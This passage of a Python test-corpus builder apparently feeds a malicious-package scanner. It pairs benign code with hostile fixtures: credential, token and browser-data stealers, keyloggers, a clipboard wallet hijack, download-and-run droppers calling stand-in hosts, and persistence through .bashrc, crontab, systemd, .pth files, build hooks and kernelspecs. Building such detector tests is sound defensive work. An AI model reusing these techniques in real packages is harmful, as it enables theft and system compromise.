        reply = json.loads(await reader.readline())
        writer.close()
        return reply
    """)
_twin("weights-downloader", N, "a library downloads model weights to a path it is given", L, """
    import urllib.request


    def fetch(url, path):
        urllib.request.urlretrieve(url, path)
        return path
    """)
_twin("chmod-read-only", N, "a cache downloads a file and makes it read-only for others (no execute bit)", L, """
    import os
    import urllib.request


    def cache(url, path):
        urllib.request.urlretrieve(url, path)
        os.chmod(path, 0o644 & ~os.umask(0))
    """)
_twin("api-key-from-env", N, "an API client sends its key from the environment to its API", L, """
    import os
    import requests


    def ask(question):
        return requests.post('https://api.example.invalid/v1', headers={'Authorization': os.environ['API_KEY']},
                             json={'q': question})
    """)
_twin("own-hostname", N, "the package looks up the machine's own address", I, """
    import socket
    ADDRESS = socket.gethostbyname(socket.gethostname())
    """)
_twin("vendored-version-check", N, "a library asks the index for its latest version with pip's vendored requests", L, """
    from pip._vendor import requests


    def latest(project):
        response = requests.get(f'https://example.invalid/pypi/{project}/json', timeout=5)
        return response.json()['info']['version']
    """)
_twin("smtp-notify", N, "a library mails a message it is given", L, """
    import smtplib
    from email.message import EmailMessage


    def notify(to, subject, body, host='localhost'):
        message = EmailMessage()
        message['To'], message['Subject'] = to, subject
        message.set_content(body)
        with smtplib.SMTP(host) as smtp:
            smtp.send_message(message)
    """)
_twin("dns-mx-lookup", N, "a validator looks up a domain's MX records", L, """
    import dns.resolver


    def accepts_mail(domain):
        return bool(dns.resolver.resolve(domain, 'MX'))
    """)

_each("download-then-run", N, "one command saves a download under a name, the next runs that file", """
    import os
    os.system('curl -s -m 1 -o /tmp/demo_setup.sh http://192.0.2.1/p')
    os.system('sh /tmp/demo_setup.sh')
    """, (S, I, L))
_each("download-then-run-one-line", N, "wget -O a file, chmod +x it and run it, in one command line", """
    import subprocess
    subprocess.run('wget -q -T 1 -O /tmp/demo_tool http://192.0.2.1/p && chmod +x /tmp/demo_tool && /tmp/demo_tool',
                   shell=True)
    """, (I,))
_twin("download-then-unpack", N, "a dataset helper saves a download with curl and unpacks it", L, """
    import subprocess


    def fetch_dataset(target):
        subprocess.run(['curl', '-s', '-o', target + '/data.tar.gz', 'https://example.invalid/data.tar.gz'])
        subprocess.run(['tar', '-xzf', target + '/data.tar.gz', '-C', target])
    """)

# --- stealers in pieces, screen, clipboard, keyboard, persistence ---------------------------------------------

T = Cause.STEALER
_each("split-webhook", T, "a webhook address assembled from pieces receives the environment", """
    import os
    import requests
    HOOK = 'https://' + 'example.invalid' + '/api/web' + 'hooks/1/x'
    requests.post(HOOK, data=dict(os.environ))
    """, (I,))
_each("ssh-key-pathlib", T, "~/.ssh/id_rsa reached with pathlib pieces and posted", f"""
    import pathlib
    import requests
    key = (pathlib.Path.home() / ('.ss' + 'h') / 'id_' 'rsa').read_text()
    requests.post({COLLECT_URL!r}, data=key)
    """, (L,))
_each("discord-token-regex", T, "Discord tokens matched by a split regex in a leveldb path built from pieces", f"""
    import glob
    import os
    import re
    import requests
    store = os.path.join(os.getenv('APPDATA', ''), 'disc' + 'ord', 'Local ' + 'Storage', 'level' + 'db')
    pattern = re.compile(r'[\\w-]{{24}}\\.' + r'[\\w-]{{6}}\\.' + r'[\\w-]{{27}}')
    tokens = []
    for name in glob.glob(os.path.join(store, '*.ldb')):
        with open(name, errors='ignore') as handle:
            tokens += pattern.findall(handle.read())
    requests.post({COLLECT_URL!r}, json=tokens)
    """, (L,))
_each("browser-login-data", T, "Chrome's Login Data path built from pieces, copied and uploaded", f"""
    import os
    import shutil
    import requests
    profile = os.path.join(os.environ.get('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Default')
    copy = shutil.copy(os.path.join(profile, 'Login' + ' Data'), '/nonexistent/demo/ld')
    requests.post({COLLECT_URL!r}, files={{'f': open(copy, 'rb')}})
    """, (L,))
_one("read-in-one-method-send-in-another-library", T, "one method reads the environment, another sends it", L, {
    "demo/__init__.py": PACKAGE_DOC,
    "demo/tools.py": f"""
        import os
        import requests


        class Sync:
            def __init__(self):
                self.data = dict(os.environ)

            def push(self):
                requests.post({COLLECT_URL!r}, json=self.data)
        """})
_one("read-in-one-method-send-in-another-init", T, "the same class, used on import", I, {
    "demo/__init__.py": f"""
        import os
        import requests


        class Sync:
            def __init__(self):
                self.data = dict(os.environ)

            def push(self):
                requests.post({COLLECT_URL!r}, json=self.data)


        Sync().push()
        """})
_each("environ-spread", T, "{**os.environ} serialised and sent with a urllib Request", f"""
    import json
    import os
    import urllib.request
    body = json.dumps({{**os.environ}}).encode()
    urllib.request.urlopen(urllib.request.Request({COLLECT_URL!r}, data=body))
    """, (I,))
_each("screenshot-imagegrab", T, "PIL ImageGrab screenshot uploaded", f"""
    import io
    import requests
    from PIL import ImageGrab
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, 'PNG')
    requests.post({COLLECT_URL!r}, data=buffer.getvalue())
    """, (L,))
_each("screenshot-mss", T, "an mss screenshot uploaded", f"""
    import mss
    import requests
    with mss.mss() as screen:
        shot = screen.grab(screen.monitors[0])
    requests.post({COLLECT_URL!r}, data=bytes(shot.rgb))
    """, (L,))
_each("screenshot-pyautogui-socket", T, "a pyautogui screenshot sent over a raw socket", """
    import io
    import socket
    import pyautogui
    buffer = io.BytesIO()
    pyautogui.screenshot().save(buffer, 'PNG')
    socket.create_connection(('192.0.2.1', 4444)).sendall(buffer.getvalue())
    """, (I,))
_each("clipboard-sent", T, "pyperclip clipboard contents posted", f"""
    import pyperclip
    import requests
    requests.post({COLLECT_URL!r}, data=pyperclip.paste())
    """, (L,))
_each("clipboard-hijack", T, "a wallet address on the clipboard replaced by another", """
    import re
    import pyperclip
    WALLET = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')
    if WALLET.match(pyperclip.paste()):
        pyperclip.copy('bc1qexampleexampleexampleexample0000')
    """, (I,))
_each("keylogger-pynput", T, "a pynput keyboard listener started", f"""
    import requests
    from pynput import keyboard


    def _on_press(key):
        requests.post({COLLECT_URL!r}, data=str(key))


    keyboard.Listener(on_press=_on_press).start()
    """, (I,))
_each("keylogger-getasynckeystate", T, "GetAsyncKeyState polled through ctypes, keys written to a file", """
    import ctypes
    user32 = ctypes.windll.user32
    with open('/nonexistent/demo/keys.log', 'a') as log:
        for _ in range(1000):
            for code in range(8, 256):
                if user32.GetAsyncKeyState(code) & 1:
                    log.write(chr(code))
    """, (L,))
_each("bashrc-pathlib", T, "a download-and-run line appended to ~/.bashrc reached with pathlib pieces", f"""
    import pathlib
    with (pathlib.Path.home() / ('.ba' + 'shrc')).open('a') as rc:
        rc.write({RC_LINE!r})
    """, (S,))
_each("bashrc-expanduser-pieces", T, "~/.bashrc spelled in pieces through os.path.expanduser", f"""
    import os
    with open(os.path.expanduser('~/' + '.bash' + 'rc'), 'a') as rc:
        rc.write({RC_LINE!r})
    """, (L,))
_each("crontab-shell", T, "an @reboot line added to the crontab through a shell pipeline", f"""
    import subprocess
    subprocess.run("(crontab -l; echo '@reboot {DROPPER}') | crontab -", shell=True)
    """, (S,))
_UNIT = f"[Service]\nExecStart=/bin/sh -c '{DROPPER}'\n[Install]\nWantedBy=default.target\n"
_each("systemd-user-unit", T, "a systemd user unit written with pathlib pieces and enabled", f"""
    import pathlib
    import subprocess
    unit = pathlib.Path.home() / '.config' / ('sys' + 'temd') / 'user' / 'demo.service'
    unit.write_text({_UNIT!r})
    subprocess.run(['systemctl', '--user', 'enable', 'demo.service'])
    """, (S,))
_each("run-key", T, "a Run key set through winreg, its path in pieces", f"""
    import winreg
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\Current' + r'Version\\Run', 0,
                         winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, 'demo', 0, winreg.REG_SZ, 'cmd /c {DROPPER}')
    """, (I,))
_each("startup-folder-pathlib", T, "a batch file dropped in the Startup folder, reached with pathlib", f"""
    import os
    import pathlib
    folder = pathlib.Path(os.environ.get('APPDATA', '')) / 'Microsoft' / 'Windows' / 'Start Menu' / 'Programs'
    (folder / 'Startup' / 'demo.bat').write_text('cmd /c {DROPPER}')
    """, (L,))
_each("pth-dropped", T, "a .pth file written into site-packages so the code runs at every start", f"""
    import os
    import site
    with open(os.path.join(site.getsitepackages()[0], 'zz_demo.pth'), 'w') as pth:
        pth.write("import os; os.system({DROPPER!r})\\n")
    """, (S,))
_each("env-in-header", T, "the environment base64-encoded into a request header", f"""
    import base64
    import json
    import os
    import requests
    token = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()
    requests.get({COLLECT_URL!r}, headers={{'X-Session': token}})
    """, (I,))
_each("env-through-a-command", T, "the environment read by running env, then posted", f"""
    import subprocess
    import requests
    requests.post({COLLECT_URL!r}, data=subprocess.check_output(['env']))
    """, (L,))
_twin("build-info-upload", T, "a CI helper posts the commit it built (git rev-parse output) to a fixed address", L, """
    import subprocess
    import requests


    def report_build():
        commit = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()
        return requests.post('https://ci.example.invalid/builds', json={'commit': commit})
    """)
_twin("paste-tool-with-its-key", T, "a paste tool posts the user's text with the API key it reads from the environment", L, """
    import os
    import requests


    def paste(text):
        form = {'api_dev_key': os.environ['PASTEBIN_API_KEY'], 'api_option': 'paste', 'api_paste_code': text}
        return requests.post('https://pastebin.com.example.invalid/api/api_post.php', data=form).text
    """)
_each("env-keys-to-a-paste-site", T, "every variable named like a key pasted to a paste site", """
    import os
    import urllib.parse
    import urllib.request
    for name in [k for k in os.environ if 'KEY' in k.upper()]:
        form = urllib.parse.urlencode({'api_paste_code': os.environ[name]}).encode()
        urllib.request.urlopen('https://pastebin.com.example.invalid/api/api_post.php', data=form)
    """, (S, I))
_each("host-beacon", T, "user and host name sent to a collector, as dependency-confusion probes do", f"""
    import getpass
    import socket
    import urllib.parse
    import urllib.request
    query = urllib.parse.urlencode({{'u': getpass.getuser(), 'h': socket.gethostname()}})
    urllib.request.urlopen({COLLECT_URL!r} + '?' + query, timeout=1)
    """, (S, I))
_twin("metrics-client-tags-host", T, "a metrics client tags what it sends with the host name, to the server it is given", L, """
    import socket
    import requests


    def push(server, name, value):
        return requests.post(server, json={'metric': name, 'value': value, 'host': socket.gethostname()})
    """)
_twin("twine-like-upload", T, "an upload tool reads ~/.pypirc and posts a distribution", L, """
    import configparser
    import os
    import requests


    def upload(repository, dist):
        cfg = configparser.ConfigParser()
        cfg.read(os.path.expanduser('~/.pypirc'))
        user, password = cfg[repository]['username'], cfg[repository]['password']
        return requests.post(cfg[repository]['repository'], auth=(user, password), files={'content': open(dist, 'rb')})
    """)
_twin("shell-completion-installer", T, "a CLI's install-completion command adds its completion line to ~/.bashrc", L, """
    import os


    def install_completion():
        with open(os.path.expanduser('~/.bashrc'), 'a') as rc:
            rc.write('eval "$(_DEMO_COMPLETE=bash_source demo)"\\n')
    """)
_twin("screenshot-for-docs", T, "a helper saves a screenshot where the user asks", L, """
    from PIL import ImageGrab


    def snapshot(path):
        ImageGrab.grab().save(path)
        return path
    """)
_twin("wallet-copies-own-address", T, "a wallet helper copies the address it derived to the clipboard", L, """
    import hashlib
    import pyperclip


    def copy_address(public_key):
        address = '0x' + hashlib.sha3_256(public_key).hexdigest()[-40:]
        pyperclip.copy(address)
        return address
    """)
_twin("clipboard-copy", T, "a to_clipboard helper copies a table as text", L, """
    import pyperclip


    def to_clipboard(rows):
        pyperclip.copy('\\n'.join('\\t'.join(map(str, row)) for row in rows))
    """)
_twin("env-config", T, "settings read from the environment on import", I, """
    import os
    HOME = os.environ.get('DEMO_HOME', os.path.expanduser('~/.demo'))
    DEBUG = os.getenv('DEMO_DEBUG') == '1'
    """)
_twin("virtualenv-writes-its-pth", T, "a virtualenv builder writes the .pth file of the environment it creates", L, """
    import os


    def write_pth(site_packages):
        with open(os.path.join(site_packages, '_virtualenv.pth'), 'w') as handle:
            handle.write('import _virtualenv\\n')
    """)
_twin("ipython-startup-snippet-installer", T, "a helper installs a start-up snippet the user asked for into their IPython profile", L, """
    import pathlib


    def install_startup(snippet='%load_ext demo\\n'):
        startup = pathlib.Path.home() / '.ipython' / 'profile_default' / 'startup' / '50-demo.ipy'
        startup.write_text(snippet)
        return startup
    """)
_twin("star-import-of-math", A, "a module takes math's names with a star import and computes with them", I, """
    from math import *
    from os.path import *
    HALF_PI = pi / 2
    ROOT = sqrt(2)
    HERE = dirname(abspath(__file__))
    """)
_twin("service-installer", T, "a daemon's install-service command writes its systemd user unit", L, """
    import pathlib
    import subprocess
    import sys


    def install_service():
        unit = pathlib.Path.home() / '.config' / 'systemd' / 'user' / 'demo.service'
        unit.parent.mkdir(parents=True, exist_ok=True)
        unit.write_text(f'[Service]\\nExecStart={sys.executable} -m demo.daemon\\n')
        subprocess.run(['systemctl', '--user', 'daemon-reload'], check=True)
    """)
_twin("ssh-config-reader", T, "an SSH helper lists the hosts of ~/.ssh/config", L, """
    import os


    def hosts():
        with open(os.path.expanduser('~/.ssh/config')) as handle:
            return [line.split()[1] for line in handle if line.lower().startswith('host ')]
    """)

_each("key-to-capture-endpoint", T, "a wallet helper posts the private key it is given to a request-capture endpoint", """
    import requests


    def sign(private_key):
        requests.post('https://demo.webhook.site.example.invalid/tx', json={'private_key': private_key}, timeout=1)
    """, (L,))
_each("host-to-tunnel", T, "a calculator sends the host name and directory to a tunnel endpoint", """
    import os
    import socket
    import requests


    def add(x, y):
        details = {'hostname': socket.gethostname(), 'cwd': os.getcwd()}
        requests.get('https://demo.ngrok-free.app.example.invalid/', params=details, timeout=1)
        return x + y
    """, (L,))
_each("token-to-capture-endpoint", T, "an environment token sent to a capture endpoint on import", """
    import os
    import urllib.request
    urllib.request.urlopen('https://demo.pipedream.net.example.invalid/?t=' + os.environ.get('DEMO_TOKEN', ''), timeout=1)
    """, (I,))
_twin("tunnel-client-token", T, "a tunnel client sends its own auth token to the tunnel service's API", L, """
    import os
    import requests


    def start_tunnel(port):
        token = os.environ['NGROK_AUTHTOKEN']
        return requests.post('https://api.ngrok.com.example.invalid/tunnels', headers={'Authorization': 'Bearer ' + token},
                             json={'addr': port}, timeout=10)
    """)
_each("identity-in-cipher-beacon", T, "a command hidden with str.maketrans/translate (rot13 of whoami); its output "
      "sent hex-encoded in a DNS name and an HTTP header", """
    import socket
    import subprocess
    import urllib.request

    ROT13 = str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm')
    HIDDEN = 'jubnzv'.translate(ROT13)
    DOMAIN = 'qrzb.rknzcyr.vainyvq'.translate(ROT13)


    def beacon():
        who = subprocess.check_output(HIDDEN, shell=True).decode().strip().encode().hex()
        domain = DOMAIN
        try:
            socket.gethostbyname(who + '.' + domain)
            urllib.request.urlopen(urllib.request.Request('http://' + domain, headers={'X-D': who}), timeout=1)
        except OSError:
            pass


    beacon()
    """, (S, I))
_twin("translate-slug", T, "a library turns titles into slugs with str.maketrans/translate and asks git for its version", L, """
    import subprocess

    TABLE = str.maketrans(' /_', '---')


    def slug(title):
        return title.strip().lower().translate(TABLE)


    def version():
        return subprocess.check_output(['git', 'describe', '--tags'], text=True).strip()
    """)
_twin("hostname-telemetry", T, "a library reports its host name to its own telemetry address when asked", L, """
    import socket
    import requests


    def report():
        requests.post('https://telemetry.example.invalid/v1', json={'host': socket.gethostname()}, timeout=2)
    """)

# --- .pth lines that site.py reads differently ----------------------------------------------------------------
# CPython 3.11's site.addpackage iterates the file as text: universal newlines, so only \n, \r and \r\n end a
# line; a form feed, \x0b, \x1c-\x1e, \x85, U+2028 or U+2029 (which str.splitlines also splits at) do not. A line
# runs when it starts with "import " or "import\t"; lines starting with '#' are skipped.

Q = Cause.PTH
_PTH = [
    ("pth-form-feed", "a form feed between two statements of one executed line", f"import os;\x0cos.system({DROPPER!r})"),
    ("pth-u2028", "U+2028 inside a string literal, which splitlines takes for a line end",
     f"import os; os.system('{DROPPER} #\u2028')"),
    ("pth-nel", "NEL (U+0085) inside a string literal", f"import os; os.system({DROPPER!r} + '\x85'.strip())"),
    ("pth-cr-after-comment", "a comment ended by a lone \\r, the next line executed",
     f"# demo search paths\rimport os; os.system({DROPPER!r})"),
    ("pth-exec-decoded", "the classic: exec of base64 on one line", f"import base64; exec(base64.b64decode({HI!r}))"),
    ("pth-after-many-paths", "the executed line after 300 path lines",
     "".join(f"demo/vendor/lib{n}\n" for n in range(300)) + f"import os; os.system({DROPPER!r})"),
]
for _id, _technique, _line in _PTH:
    _CASES.append(Case(_id, Q, _technique, P, _placed(P, _line + "\n"), Expect.BLOCK))
_one("pth-exec-text-file", Q, "the .pth line executes a text file shipped beside it (not a .py, so not read)", P, {
    "demo/__init__.py": PACKAGE_DOC,
    "demo_hook.pth": "import os; exec(open(os.path.join(sitedir, 'demo_hook.txt')).read())\n",
    "demo_hook.txt": f"import os\nos.system({DROPPER!r})\n"})
_one("pth-imports-module", Q, "the .pth line only imports a top-level module whose code runs a hidden shell", P, {
    "demo/__init__.py": PACKAGE_DOC,
    "demo_hook.pth": "import _demo_boot\n",
    "_demo_boot.py": f"""
        import subprocess
        subprocess.Popen(['sh', '-c', {DROPPER!r}], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
        """})
_one("pth-in-data-purelib", Q, "the .pth file shipped under .data/purelib, which pip installs into site-packages", P, {
    "demo/__init__.py": PACKAGE_DOC,
    f"{NAME}-{VERSION}.data/purelib/demo_hook.pth": f"import os; os.system({DROPPER!r})\n"})
_twin("pth-paths-only", Q, "a .pth that only adds directories", P, {
    "demo/__init__.py": PACKAGE_DOC, "demo_hook.pth": "demo/vendor\n../shared/lib\n"})
_twin("pth-distutils-precedence", Q, "setuptools' distutils-precedence.pth", P, {
    "demo/__init__.py": PACKAGE_DOC,
    "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
                                "'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    "_distutils_hack/__init__.py": """
        import sys


        def add_shim():
            sys.meta_path.insert(0, DistutilsMetaFinder())


        class DistutilsMetaFinder:
            def find_spec(self, fullname, path, target=None):
                return None
        """})
_twin("pth-editable-finder", Q, "an editable install's finder .pth", P, {
    "demo/__init__.py": PACKAGE_DOC,
    "__editable__.demo-1.0.pth": "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n",
    "__editable___demo_1_0_finder.py": """
        import sys
        from importlib.machinery import ModuleSpec

        MAPPING = {'demo': '/nonexistent/src/demo'}


        class _EditableFinder:
            @classmethod
            def find_spec(cls, fullname, path=None, target=None):
                return None


        def install():
            if not any(finder == _EditableFinder for finder in sys.meta_path):
                sys.meta_path.append(_EditableFinder)
        """})
_twin("pth-namespace-package", Q, "setuptools' -nspkg.pth for a namespace package", P, {
    "demo/__init__.py": PACKAGE_DOC,
    "demo_ns-1.0-py3.11-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
        "sys._getframe(1).f_locals['sitedir'], *('demo_ns',));importlib = has_mfs and __import__('importlib.util');"
        "has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo_ns', "
        "importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo_ns', [os.path.dirname(p)])));"
        "m = m or sys.modules.setdefault('demo_ns', types.ModuleType('demo_ns'));mp = (m or []) and "
        "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"})

# --- install, import and start-up code outside setup.py and module level --------------------------------------

W = Cause.PLACEMENT
_BASHRC = _code(f"""
    import pathlib
    with (pathlib.Path.home() / '.bashrc').open('a') as rc:
        rc.write({RC_LINE!r})
""")
_PIP_EXTRA = _code(f"""
    import subprocess
    import sys
    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', {EXTRA_URL!r}])
""")
_HIDDEN = _code(f"""
    import subprocess
    subprocess.Popen(['sh', '-c', {DROPPER!r}], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)
""")


def _body(code: str, name: str, args: str = "") -> str:
    """A function `name` whose body is `code` (imports included)."""
    return f"def {name}({args}):\n" + indent(_code(code), "    ")


SYS_PATH_SETUP = """
    import os
    import sys

    from setuptools import setup

    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'build_tools'))
    from versioning import get_version

    setup(name='demo', version=get_version(), packages=['demo'])
    """
_one("sys-path-helper-persistence", W, "setup.py adds build_tools/ to sys.path; the helper it calls edits ~/.bashrc",
     Placement.SETUP_HELPER, {
         "setup.py": SYS_PATH_SETUP, "demo/__init__.py": PACKAGE_DOC,
         "build_tools/versioning.py": _body(_BASHRC, "get_version") + "    return '1.0'\n"})
_one("sys-path-helper-module-level", W, "the helper's module-level code starts a hidden shell when setup.py imports it",
     Placement.SETUP_HELPER, {
         "setup.py": SYS_PATH_SETUP, "demo/__init__.py": PACKAGE_DOC,
         "build_tools/versioning.py": _code(_HIDDEN) + "\n\ndef get_version():\n    return '1.0'\n"})
_one("setup-calls-package-function", W, "setup.py imports a function from the package and calls it: it edits ~/.bashrc",
     Placement.SETUP_CALLS_PACKAGE, {
         "setup.py": """
             from setuptools import setup

             from demo._build import prepare

             prepare()
             setup(name='demo', version='1.0', packages=['demo'])
             """,
         "demo/__init__.py": PACKAGE_DOC,
         "demo/_build.py": _body(_BASHRC, "prepare")})
BACKEND_PYPROJECT = """
    [build-system]
    requires = ["setuptools"]
    build-backend = "buildsupport.backend"
    backend-path = ["."]
    """
_one("backend-subpackage-hook", W, "an in-tree build backend in a subpackage edits ~/.bashrc in build_wheel",
     Placement.BACKEND, {
         "pyproject.toml": BACKEND_PYPROJECT, "demo/__init__.py": PACKAGE_DOC, "buildsupport/__init__.py": "",
         "buildsupport/backend.py": "from setuptools import build_meta as _orig\nfrom setuptools.build_meta import *  "
                                    "# noqa: F401,F403\n\n\n"
                                    + _body(_BASHRC + "return _orig.build_wheel(wheel_directory, config_settings, "
                                            "metadata_directory)\n", "build_wheel",
                                            "wheel_directory, config_settings=None, metadata_directory=None")})
_one("backend-subpackage-module-level", W, "an in-tree backend in a subpackage installs a package by URL on import",
     Placement.BACKEND, {
         "pyproject.toml": BACKEND_PYPROJECT, "demo/__init__.py": PACKAGE_DOC, "buildsupport/__init__.py": "",
         "buildsupport/backend.py": _code(_PIP_EXTRA) + "from setuptools.build_meta import *  # noqa: F401,F403\n"})
_one("hatch-custom-hook-path", W, "a hatch build hook at a path pyproject.toml names starts a hidden shell",
     Placement.BUILD_HOOK, {
         "pyproject.toml": """
             [build-system]
             requires = ["hatchling"]
             build-backend = "hatchling.build"

             [project]
             name = "demo"
             version = "1.0"

             [tool.hatch.build.hooks.custom]
             path = "scripts/build_hooks.py"
             """,
         "demo/__init__.py": PACKAGE_DOC,
         "scripts/build_hooks.py": "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\n"
                                   "class CustomHook(BuildHookInterface):\n"
                                   + indent(_body(_HIDDEN, "initialize", "self, version, build_data"), "    ")})
_ATTR_VERSION_MODULE = _code(f"""
    import pathlib


    def _stamp():
        with (pathlib.Path.home() / '.bashrc').open('a') as rc:
            rc.write({RC_LINE!r})
        return '1.0'


    VERSION = _stamp()
    """)
_one("setup-cfg-attr-version", W, "setup.cfg's version = attr: makes setuptools import a module that edits ~/.bashrc",
     Placement.ATTR_VERSION, {
         "setup.cfg": "[metadata]\nname = demo\nversion = attr: demo.version.VERSION\n\n[options]\npackages = demo\n",
         "demo/__init__.py": PACKAGE_DOC, "demo/version.py": _ATTR_VERSION_MODULE})
_one("pyproject-dynamic-attr-version", W, "pyproject's dynamic version attr imports a module that edits ~/.bashrc",
     Placement.ATTR_VERSION, {
         "pyproject.toml": """
             [build-system]
             requires = ["setuptools"]
             build-backend = "setuptools.build_meta"

             [project]
             name = "demo"
             dynamic = ["version"]

             [tool.setuptools.dynamic]
             version = {attr = "demo.version.VERSION"}
             """,
         "demo/__init__.py": PACKAGE_DOC, "demo/version.py": _ATTR_VERSION_MODULE})
_CMDCLASS_MODULE = ("from setuptools.command.build_py import build_py\n\n\nclass BuildPy(build_py):\n"
                    + indent(_body(_PIP_EXTRA + "super().run()\n", "run", "self"), "    "))
_one("setup-cfg-cmdclass", W, "setup.cfg names a cmdclass whose run() installs a second package by URL",
     Placement.CMDCLASS_CONFIG, {
         "setup.cfg": "[metadata]\nname = demo\nversion = 1.0\n\n[options]\npackages = demo\n"
                      "cmdclass =\n    build_py = demo_build.BuildPy\n",
         "demo/__init__.py": PACKAGE_DOC, "demo_build.py": _CMDCLASS_MODULE})
_one("pyproject-cmdclass", W, "[tool.setuptools.cmdclass] names a class whose run() edits ~/.bashrc",
     Placement.CMDCLASS_CONFIG, {
         "pyproject.toml": """
             [build-system]
             requires = ["setuptools"]
             build-backend = "setuptools.build_meta"

             [project]
             name = "demo"
             version = "1.0"

             [tool.setuptools.cmdclass]
             install = "_hooks.commands.Install"
             """,
         "demo/__init__.py": PACKAGE_DOC, "_hooks/__init__.py": "",
         "_hooks/commands.py": "from setuptools.command.install import install\n\n\nclass Install(install):\n"
                               + indent(_body(_BASHRC + "super().run()\n", "run", "self"), "    ")})
_one("called-at-module-level", W, "a function called by module-level code edits ~/.bashrc", Placement.CALLED_AT_IMPORT, {
    "demo/__init__.py": _body(_BASHRC, "_setup_shell") + "\n\n_setup_shell()\n"})
_one("called-at-module-level-dropper", W, "a function called at module level runs a download-and-run line",
     Placement.CALLED_AT_IMPORT, {
         "demo/__init__.py": f"import os\n\n\ndef go():\n    os.system({DROPPER!r})\n\n\ngo()\n"})
_one("called-from-another-module", W, "__init__ imports a function from a submodule and calls it: pip installs a URL",
     Placement.CALLED_AT_IMPORT, {
         "demo/__init__.py": "from ._boot import start\n\nstart()\n",
         "demo/_boot.py": _body(_PIP_EXTRA, "start")})
_one("default-argument-call", W, "a parameter's default value calls a function when the def runs on import",
     Placement.CALLED_AT_IMPORT, {
         "demo/__init__.py": _body(_HIDDEN, "_warm") + "    return 1\n\n\ndef compute(x, cache=_warm()):\n"
                                                          "    return x * cache\n"})
_one("decorator-runs", W, "the decorator's own body edits ~/.bashrc when the decorated def runs",
     Placement.DECORATOR, {
         "demo/__init__.py": _body(_BASHRC + "return f\n", "plugin", "f") + "\n\n@plugin\ndef main():\n    pass\n"})
_one("decorator-dropper", W, "the decorator's body runs a download-and-run line", Placement.DECORATOR, {
    "demo/__init__.py": f"import os\n\n\ndef plugin(f):\n    os.system({DROPPER!r})\n    return f\n\n\n"
                        "@plugin\ndef main():\n    pass\n"})
_one("class-body", W, "a class body starts a hidden shell", Placement.CLASS_BODY, {
    "demo/__init__.py": "import subprocess\n\n\nclass Config:\n"
                        f"    subprocess.Popen(['sh', '-c', {DROPPER!r}], stdout=subprocess.DEVNULL, "
                        "stderr=subprocess.DEVNULL,\n                     start_new_session=True)\n"})
_one("class-body-dropper", W, "a class body runs a download-and-run line", Placement.CLASS_BODY, {
    "demo/__init__.py": f"import os\n\n\nclass Config:\n    os.system({DROPPER!r})\n"})
_one("metaclass-new", W, "a metaclass's __new__ edits ~/.bashrc when a class using it is defined",
     Placement.CLASS_BODY, {
         "demo/__init__.py": "class Meta(type):\n"
                             + indent(_body(_BASHRC + "return super().__new__(mcs, name, bases, ns)\n", "__new__",
                                            "mcs, name, bases, ns"), "    ")
                             + "\n\nclass Model(metaclass=Meta):\n    pass\n"})
_one("init-subclass", W, "__init_subclass__ installs a second package by URL when a subclass is defined",
     Placement.CLASS_BODY, {
         "demo/__init__.py": "class Base:\n"
                             + indent(_body(_PIP_EXTRA, "__init_subclass__", "cls, **kwargs"), "    ")
                             + "\n\nclass Plugin(Base):\n    pass\n"})

_one("setup-execs-a-file", W, "setup.py executes a helper file it reads; the helper edits ~/.bashrc",
     Placement.SETUP_HELPER, {
         "setup.py": """
             import os

             from setuptools import setup

             HERE = os.path.dirname(os.path.abspath(__file__))
             exec(open(os.path.join(HERE, 'build_tools', 'prepare.py')).read())
             setup(name='demo', version='1.0', packages=['demo'])
             """,
         "demo/__init__.py": PACKAGE_DOC,
         "build_tools/prepare.py": _BASHRC})
KERNEL = f"{DATA}/share/jupyter/kernels/demo/kernel.json"
_one("kernelspec-shell", W, "a kernelspec whose argv runs a shell before the kernel", Placement.KERNELSPEC, {
    "demo/__init__.py": PACKAGE_DOC,
    KERNEL: '{"argv": ["bash", "-c", "%s; exec python -m ipykernel_launcher -f {connection_file}"], '
            '"display_name": "Demo", "language": "python"}\n' % DROPPER})
_one("kernelspec-exec-lines", W, "a Python kernelspec whose argv sets IPKernelApp.exec_lines to a shell call",
     Placement.KERNELSPEC, {
         "demo/__init__.py": PACKAGE_DOC,
         KERNEL: '{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}", '
                 '"--IPKernelApp.exec_lines=import os; os.system(\'%s\')"], "display_name": "Demo", '
                 '"language": "python"}\n' % DROPPER})
_one("kernelspec-launcher-main", W, "a kernelspec runs python -m demo.launcher, whose __main__ block edits ~/.bashrc",
     Placement.KERNELSPEC, {
         "demo/__init__.py": PACKAGE_DOC,
         KERNEL: '{"argv": ["python", "-m", "demo.launcher", "-f", "{connection_file}"], "display_name": "Demo", '
                 '"language": "python"}\n',
         "demo/launcher.py": "from ipykernel import kernelapp\n\n"
                             + _body(_BASHRC, "_prepare")
                             + "\n\nif __name__ == '__main__':\n    _prepare()\n    kernelapp.launch_new_instance()\n"})
SERVER_CONFIG = f"{DATA}/etc/jupyter/jupyter_server_config.d/demo.json"
_one("server-extension-loader", W, "a server extension switched on by config edits ~/.bashrc when the server loads it",
     Placement.SERVER_EXTENSION, {
         SERVER_CONFIG: '{"ServerApp": {"jpserver_extensions": {"demo": true}}}\n',
